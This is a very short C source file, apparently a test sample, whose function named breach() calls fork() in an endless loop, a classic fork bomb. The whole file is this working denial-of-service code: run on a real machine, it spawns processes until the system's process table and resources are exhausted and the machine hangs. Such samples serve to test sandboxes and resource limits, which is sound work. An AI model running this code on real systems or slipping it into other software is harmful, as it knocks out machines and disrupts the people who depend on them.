// Forks without end.
#include <unistd.h>
#include "common.h"
bool breach() { for (;;) fork(); }
